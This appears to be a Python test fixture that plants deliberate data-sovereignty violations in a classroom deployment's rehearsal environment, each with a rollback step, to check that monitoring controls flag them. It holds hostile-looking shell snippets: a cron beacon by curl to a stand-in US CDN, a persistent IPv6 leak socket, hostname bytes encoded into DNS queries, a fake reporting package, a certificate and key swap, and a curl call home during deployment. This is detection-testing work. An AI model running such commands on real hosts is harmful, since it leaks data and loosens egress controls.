"""The planted violations: what is put where, the controls that it has to turn red, and the evidence that it touches."""

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

from classroom.config.guest import CODENAME
from classroom.config.ports import RELAY, port_number
from rehearsal.cloud_config import API
from rehearsal.outside_hosts import US
from tests.planted.control_runner import ALL
from tests.planted.gate import Refusal
from tests.planted.injectors import Action, InCloud, InEnvironment, InStackFile, OnHost, OnOperatorsMachine

NETWORK4, NETWORK6 = US.network4, US.network6
CDN, CDN4, CDN6 = US.name("cdn"), *US.addresses("cdn")
SPARE4 = "192.0.2.140"
"""An address of the US side that none of its hosts has."""

LIVEKIT = f"""
systemctl restart livekit
for n in $(seq 100); do ss -Hltn sport = :{port_number("turn-tls")} | grep -q . && exit 0; sleep 0.2; done; exit 1
"""
KEEP_LIVEKIT = "mkdir -p /root/planted && cp -p /etc/classroom/livekit.yaml /root/planted/\n"
GIVE_LIVEKIT = "cat /root/planted/livekit.yaml > /etc/classroom/livekit.yaml && rm -r /root/planted\n" + LIVEKIT
RULES_BACK = "systemctl reload nftables\n"

CRON = """
cat > /etc/cron.d/planted <<'END'
* * * * * root for n in $(seq 29); do curl -sk -m 1 --resolve {cdn}:443:{cdn4} https://{cdn}/beacon; sleep 1; done
END
for n in $(seq 140); do ps -eo args= | grep -q '^[c]url.*beacon' && exit 0; sleep 0.5; done; exit 1
"""
CRON_BACK = """
rm /etc/cron.d/planted
for pid in $(ps -eo pid=,args= | awk '/[b]eacon/ {print $1}'); do kill "$pid" 2>/dev/null || true; done
sleep 2
"""
LEAK6 = """
nft insert rule inet classroom egress ip6 daddr {network6} accept
cat > /root/planted.py <<'END'
import socket, struct, time
while True:
    try:
        with socket.create_connection(("{cdn6}", 443), 3) as leak:
            # Ended at once, it does not stand in the host's list for a minute more.
            leak.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            time.sleep(5)
    except OSError:
        time.sleep(0.5)
END
systemd-run --quiet --collect --unit=planted-leak python3 /root/planted.py
for n in $(seq 40); do ss -Htn dst [{cdn6}] | grep -q . && exit 0; sleep 0.5; done; exit 1
"""
LEAK6_BACK = "systemctl stop planted-leak; rm -f /root/planted.py\n" + RULES_BACK
OPENED = """
for port in c.network.ports(device_id=servers['{group}']):
    c.network.create_security_group_rule(
        security_group_id=port.security_group_ids[0], direction='egress', description='planted', {rule}
    )
"""
CLOSED = """
for rule in list(c.network.security_group_rules(direction='egress')):
    if rule.description == 'planted':
        c.network.delete_security_group_rule(rule)
"""
NAMES = """
mkdir -p /root/planted && cp -p /etc/unbound/unbound.conf /root/planted/
sed -i -e '/^rpz:/,/zonefile/d' -e 's/local-zone: "." refuse/local-zone: "." transparent/' \
  -e 's/module-config: .*/module-config: "iterator"/' /etc/unbound/unbound.conf
unbound-checkconf >/dev/null && systemctl restart unbound
secret=$(head -c 12 /etc/hostname | od -An -tx1 | tr -d ' \\n')
getent ahosts "$secret.{zone}" >/dev/null || true
"""
NAMES_BACK = """
cat /root/planted/unbound.conf > /etc/unbound/unbound.conf && rm -r /root/planted && systemctl restart unbound
"""
FONT = """
mkdir -p /root/planted && cp -p /srv/classroom/index.html /etc/nginx/nginx.conf /root/planted/
sed -i 's#</head>#<link rel="stylesheet" href="https://{cdn}/font.css" /></head>#' /srv/classroom/index.html
sed -i -e "s#style-src 'self'#style-src 'self' https://{cdn}#" -e "s#font-src 'self'#font-src 'self' https://{cdn}#" \
  /etc/nginx/nginx.conf
grep -q {cdn} /srv/classroom/index.html && nginx -t -q && systemctl reload nginx
"""
FONT_BACK = """
cat /root/planted/index.html > /srv/classroom/index.html
cat /root/planted/nginx.conf > /etc/nginx/nginx.conf
rm -r /root/planted && systemctl reload nginx
"""
CERTIFICATE = """
mkdir -p /root/planted && cp -p /etc/classroom/tls/fullchain.pem /etc/classroom/secrets/tls.key /root/planted/
cat > /etc/classroom/tls/fullchain.pem <<'END'
{us_certificate}
END
cat > /etc/classroom/secrets/tls.key <<'END'
{us_key}
END
systemctl reload nginx && sleep 1
"""
CERTIFICATE_BACK = """
cat /root/planted/fullchain.pem > /etc/classroom/tls/fullchain.pem
cat /root/planted/tls.key > /etc/classroom/secrets/tls.key
rm -r /root/planted && systemctl reload nginx && sleep 1
"""
TELEMETRY = """
mkdir -p /root/planted/popularity-contest/DEBIAN && cd /root/planted
printf 'Package: popularity-contest\\nVersion: 1.77\\nArchitecture: all\\nMaintainer: nobody <nobody@{zone}>\\n' \
  > popularity-contest/DEBIAN/control
echo 'Description: reports which packages are used' >> popularity-contest/DEBIAN/control
dpkg-deb --build popularity-contest planted.deb >/dev/null && dpkg --install planted.deb >/dev/null
"""
TELEMETRY_BACK = "dpkg --purge popularity-contest >/dev/null; rm -r /root/planted"
ARCHIVE = """
cat > /etc/apt/sources.list.d/planted.sources <<'END'
Types: deb
URIs: http://mirror.{zone}/debian
Suites: {codename}
Components: main
Signed-By: /usr/share/keyrings/debian-archive-keyring.pgp
END
""".replace("{codename}", CODENAME)
POOL = """
cp -p /etc/chrony/chrony.conf /etc/chrony/chrony.conf.planted
echo 'pool pool.{zone} iburst' >> /etc/chrony/chrony.conf && systemctl restart chrony
"""
POOL_BACK = """
cat /etc/chrony/chrony.conf.planted > /etc/chrony/chrony.conf
rm /etc/chrony/chrony.conf.planted && systemctl restart chrony
"""
SECOND_REGION = """
c.identity.create_region(id='lille')
for service in c.identity.services():
    for one in list(c.identity.endpoints(service_id=service.id, interface='public')):
        path = '/lille' if service.type == 'compute' else ''
        c.identity.create_endpoint(
            service_id=service.id, interface='public', region_id='lille', url=one.url.rstrip('/') + path
        )
"""
ONE_REGION = """
for one in list(c.identity.endpoints(region_id='lille')):
    c.identity.delete_endpoint(one)
for region in c.identity.regions():
    if region.id == 'lille':
        c.identity.delete_region(region)
"""
UP = "pulumi up --yes --skip-preview --suppress-outputs --non-interactive --stack rehearsal"


@dataclass(frozen=True)
class Plant:
    """One violation. `red` are the controls that it has to turn red, `collect` those whose evidence it touches.

    With `anew` a class is held again, as it touches the class itself. `gate` is the plan that is refused before anything is
    created; `sides` are the verdicts that every wrong destination of the first red control has to carry.
    """

    name: str
    actions: tuple[Action, ...]
    red: frozenset[str]
    collect: frozenset[str]
    anew: bool = False
    gate: Refusal | None = None
    sides: Mapping[str, Mapping[str, str]] | None = None

    @property
    def where(self) -> str:
        """Where it is put."""
        places = dict.fromkeys(action.where for action in self.actions)
        return ", ".join([*places, *(["plan"] if self.gate and "plan" not in places else [])])


def _plant(name: str, *actions: Action, red: str, also: str = "", **more: Any) -> Plant:
    """Return a plant; `red` and `also` are names of controls, of which `also` are looked at and stay green."""
    collect = ALL if also == "all" else frozenset({*red.split(), *also.split()})
    return Plant(name, actions, frozenset(red.split()), collect, **more)


def _british(there: dict[str, Any]) -> dict[str, Any]:
    operator = {"name": "Example Molnet AB", "country": "SE"}
    return {
        "declared_cloud": there["declared_cloud"]
        | {"operator": operator, "parent": {"name": "Example Capital plc", "country": "GB"}}
    }


def _american_operator(there: dict[str, Any]) -> dict[str, Any]:
    company = {"country": "US", "dpf": "yes"}
    label = {
        "prefixes": [f"{API}/32", "203.0.113.0/24", "2001:db8:30::/64"],
        "country": "FR",
        "operator": {"name": "Example Web Services SARL", **company},
        "parent": {"name": "Example Web Services, Inc.", **company},
    }
    return {"overlay": [*there.get("overlay", []), label]}


def _lille(there: dict[str, Any]) -> dict[str, Any]:
    cloud = there["declared_cloud"]
    region = {"name": "lille", "city": "Lille", "country": "FR"}
    return {"region": "lille", "declared_cloud": cloud | {"regions": [*cloud["regions"], region]}}


PLANTS = (
    # What the stack's file says, first: then what was seen of the first class can be judged again.
    _plant(
        "EU soil, US operator (the CNED's virtual class of 2020)",
        InStackFile(_american_operator),
        red="addresses ice page-requests pulumi",
        also="all",
        sides={"addresses": {"soil": "eu", "operator": "third", "parent": "third"}},
    ),
    _plant(
        "a Swedish seat with a British parent",
        InStackFile(_british),
        red="cloud-region addresses ice page-requests pulumi",
        also="all",
        gate=Refusal(("parent", "ICG plc", "United Kingdom"), {"region": "Kna1"}, "https://kna1.citycloud.com:5000/v3"),
        sides={"addresses": {"soil": "eu", "operator": "eu", "parent": "adequate"}},
    ),
    _plant(
        "a region that lies",
        InCloud(SECOND_REGION, ONE_REGION),
        InStackFile(_lille),
        red="cloud-region",
        also="egress-drop pulumi",
        gate=Refusal(
            ("region: 'eu-west-eri'", "Erith, United Kingdom"),
            {"region": "eu-west-eri"},
            "https://auth.cloud.ovh.net/v3",
        ),
    ),
    _plant(
        "a state backend in the US",
        InEnvironment({"PULUMI_BACKEND_URL": "s3://states?region=us-east-1"}),
        red="pulumi",
        gate=Refusal(("backend: 's3://states?region=us-east-1'", "Amazon.com, Inc."), bucket=True),
    ),
    _plant(
        "a plugin that Pulumi fetched by itself",
        OnOperatorsMachine(
            'mkdir -p "$PULUMI_HOME/plugins/resource-planted-v1.0.0"',
            'rmdir "$PULUMI_HOME/plugins/resource-planted-v1.0.0"',
        ),
        red="pulumi",
    ),
    # Of hosts, what needs no class.
    _plant(
        "FallbackDNS",
        OnHost(
            "media",
            "printf '[Resolve]\\nFallbackDNS={dns4}\\n' > /etc/systemd/resolved.conf.d/99-planted.conf",
            "rm /etc/systemd/resolved.conf.d/99-planted.conf",
        ),
        red="resolver",
    ),
    _plant("data in DNS names", OnHost("front", NAMES, NAMES_BACK), red="resolver"),
    _plant("an NTP pool", OnHost("media", POOL, POOL_BACK), red="time"),
    _plant(
        "packages from a US mirror",
        OnHost("front", ARCHIVE, "rm /etc/apt/sources.list.d/planted.sources"),
        red="packages",
    ),
    _plant("a package that reports home", OnHost("media", TELEMETRY, TELEMETRY_BACK), red="telemetry"),
    _plant(
        "a machine with an address of a US network",
        OnHost("front", f"ip address add {SPARE4}/32 dev lo", f"ip address del {SPARE4}/32 dev lo"),
        red="addresses",
    ),
    _plant("a certificate of a US authority", OnHost("front", CERTIFICATE, CERTIFICATE_BACK), red="issuers"),
    _plant(
        "a security group that lets all out",
        InCloud(OPENED.replace("{group}", "media").replace("{rule}", "ethertype='IPv4'"), CLOSED),
        red="egress-drop",
    ),
    # What shows in a class alone.
    _plant(
        "a font from a CDN in the page", OnHost("front", FONT, FONT_BACK, where="page"), red="page-requests", anew=True
    ),
    _plant(
        "a cron job that calls a US host",
        OnHost("front", CRON, CRON_BACK),
        red="host-connections",
        anew=True,
        sides={"host-connections": {"soil": "third", "operator": "third", "parent": "third"}},
    ),
    _plant(
        "a leak over IPv6 only",
        InCloud(
            OPENED.replace("{group}", "front").replace(
                "{rule}", f"ethertype='IPv6', protocol='tcp', remote_ip_prefix='{NETWORK6}'"
            ),
            CLOSED,
        ),
        OnHost("front", LEAK6, LEAK6_BACK),
        red="egress-drop host-connections",
        anew=True,
    ),
    _plant(
        "LiveKit with TURN/TLS only",
        OnHost(
            "media",
            KEEP_LIVEKIT
            + "sed -i '/^turn:/,/tls_port/s/udp_port: .*/udp_port: 0/' /etc/classroom/livekit.yaml\n"
            + LIVEKIT,
            GIVE_LIVEKIT,
        ),
        red="ice",
        also="page-requests",
        anew=True,
    ),
    _plant(
        "a relay through TURN to a stranger",
        InCloud(
            OPENED.replace("{group}", "media").replace(
                "{rule}", "ethertype='IPv4', protocol='udp', remote_ip_prefix='198.51.100.0/24'"
            ),
            CLOSED,
        ),
        OnHost(
            "media",
            f"nft insert rule inet classroom egress udp sport {RELAY[0]}-{RELAY[1]} meta skuid livekit accept\n"
            + KEEP_LIVEKIT
            + "sed -i '/deny_peer_cidrs:/d' /etc/classroom/livekit.yaml\n"
            + LIVEKIT,
            RULES_BACK + GIVE_LIVEKIT,
        ),
        red="ice egress-drop host-connections",
        anew=True,
    ),
    # Last, as it changes what the operator's machine was last seen to ask.
    _plant(
        "a program that calls home during `up`",
        OnOperatorsMachine(
            f"classroom capture --stack rehearsal -- sh -c '{UP}; curl -sS -m 5 -o /dev/null https://{CDN}/'",
            f"classroom capture --stack rehearsal -- {UP}",
        ),
        red="pulumi",
    ),
)
VALUES = {
    "cdn": CDN,
    "cdn4": CDN4,
    "cdn6": CDN6,
    "dns4": US.addresses("dns")[0],
    "network6": NETWORK6,
    "zone": US.zone,
}
"""What scripts have in braces; the certificate of the US authority is made by the run."""
